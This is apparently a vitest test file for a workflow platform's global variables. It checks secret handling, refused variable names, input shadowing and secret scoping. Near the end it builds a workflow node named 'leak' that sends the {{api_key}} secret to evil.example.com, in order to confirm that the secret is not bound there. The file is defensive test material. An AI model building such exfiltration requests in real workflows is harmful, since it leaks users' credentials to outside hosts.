import { expect } from 'vitest'
import type { Chapter } from '../chapter.ts'
import { byHand, live, node, outputs, runOf, say } from '../graph.ts'

const secret = 'sk-live-4f9a1c77b2'

/** The team’s variables, which workflows read everywhere, and secrets that are shown nowhere. */
export const variables: Chapter = {
  name: 'variables',
  play: async (stage) => {
    const make = (body: object) => stage.ask('POST', '/global-variables', body)
    stage.note(
      'text',
      await make({ name: 'shop', value: 'Olaria', category: 'Config', description: 'Our name' }),
    )
    stage.note('json', await make({ name: 'hours', value: { open: 9, days: ['Mon'] }, category: 'Config' }))
    stage.note(
      'prompt',
      await make({ name: 'tone', value: 'Say “Welcome to {{shop}}.”', category: 'Prompts' }),
    )
    const hosts = ['echo.example.com']
    stage.note('secret', await make({ name: 'api_key', value: secret, is_secret: true, hosts }))
    for (const refused of [
      { name: '9lives', value: 1 },
      { name: 'now', value: 1 },
      { name: 'workflow_invoke_count', value: 1 },
      { name: 'shop', value: 'another' },
      { name: 'long', value: 1, description: 'x'.repeat(1025) },
      { name: 'broad', value: 1, hosts },
    ]) {
      const answer = await make(refused)
      expect(answer.status).toBeGreaterThanOrEqual(400)
      stage.note(`refused ${refused.name}`, answer)
    }
    await stage.restart()
    const listed = await stage.read('GET', '/global-variables?category=Config&sort=name')
    stage.note('config', listed.variables)

    const id = await live(stage, {
      nodes: [
        byHand,
        node('greet', 'say-llm', { systemPrompt: '{{tone}}' }),
        say('open', '{{shop}} opens at {{hours.open}}, {{year}}, run {{workflow_invoke_count}}'),
        node('call', 'http-request', {
          method: 'POST',
          url: 'https://echo.example.com/{{shop}}',
          headers: [{ name: 'Authorization', value: 'Bearer {{api_key}}' }],
          body: { shop: '{{shop}}', hours: '{{hours}}' },
          responseMapping: [{ path: 'body.path', variable: 'reached' }],
        }),
        say('end', '{{reached}}'),
      ],
    })
    const usual = await runOf(stage, id)
    const own = await runOf(stage, id, { input: { shop: 'Padaria' } })

    const shadowed = await stage.ask('POST', `/workflows/${id}/execute`, { input: { api_key: 'mine' } })

    expect(shadowed.status).toBe(422)
    stage.note('shadowed', shadowed)
    expect(outputs(usual).open.text).toMatch(/^Olaria opens at 9, 20\d\d, run 1$/u)
    expect(outputs(own).open.text).toMatch(/^Padaria/u)
    const sent = stage.heard('https://echo.example.com/')
    expect(sent.map(({ headers }) => headers['authorization'])).toEqual([
      `Bearer ${secret}`,
      `Bearer ${secret}`,
    ])
    expect(JSON.stringify([listed, usual, own])).not.toContain(secret)
    stage.note(
      'sent',
      sent.map(({ url, body }) => [url, body]),
    )
    stage.note('outputs', [outputs(usual).call, outputs(usual).greet, outputs(own).end])
    await stage.read('PATCH', '/global-variables/shop', { value: 'Pottery' })
    expect((await stage.ask('DELETE', '/global-variables/hours')).status).toBe(204)
    stage.note('left', (await stage.read('GET', '/global-variables')).total)
    const { id: foreign } = await stage.read('POST', '/workflows', {
      name: 'Elsewhere',
      dialect: 'threadwork',
    })
    await stage.read('PATCH', `/workflows/${foreign}`, {
      nodes: [byHand, node('leak', 'http-request', { url: 'https://evil.example.com/?k={{api_key}}' })],
      edges: [{ id: 'go', source: 'start', target: 'leak', type: 'direct' }],
    })
    stage.note('not bound there', await stage.read('GET', `/workflows/${foreign}/validate`))
  },
}
